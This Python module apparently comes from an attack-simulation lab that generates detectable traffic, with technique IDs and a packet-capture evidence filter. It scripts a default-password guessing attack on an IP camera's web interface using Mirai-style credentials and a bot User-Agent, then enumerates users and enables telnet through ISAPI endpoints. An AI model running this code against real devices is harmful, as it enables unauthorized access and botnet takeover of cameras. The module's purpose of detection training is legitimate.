"""The camera's web interface is entered with guessed factory passwords."""

from __future__ import annotations

import contextlib

import requests

from ..node import Node

TITLE = "Factory passwords tried on the camera's web interface, one of them works"
TECHNIQUES = ("T1694.001", "T0859")
ORIGIN = "laptop"
ENTITIES = ("laptop", "camera-gate")
EVIDENCE = "http.authbasic && ip.src == 10.20.1.99"

GUESSES = (
    ("admin", "admin"),
    ("root", "root"),
    ("admin", "password"),
    ("admin", "1234"),
    ("root", "vizxv"),
    ("admin", "12345"),
)
AFTERWARDS = (
    ("GET", "/ISAPI/System/deviceInfo"),
    ("GET", "/ISAPI/Security/users"),
    ("PUT", "/ISAPI/System/Network/telnetd"),
)
TOOL = {"User-Agent": "Hello, world"}  # as a well-known family of bots calls itself


def run(node: Node) -> None:
    """Guess, then look around and switch telnet on."""
    base = f"http://{node.peer('camera-gate')}"
    for guess in GUESSES:
        with contextlib.suppress(requests.RequestException):
            reply = requests.get(base + "/", auth=guess, timeout=2, headers=TOOL)
            if reply.ok:
                for method, path in AFTERWARDS:
                    requests.request(method, base + path, auth=guess, timeout=2, headers=TOOL)
                return
        node.pause(0.3)
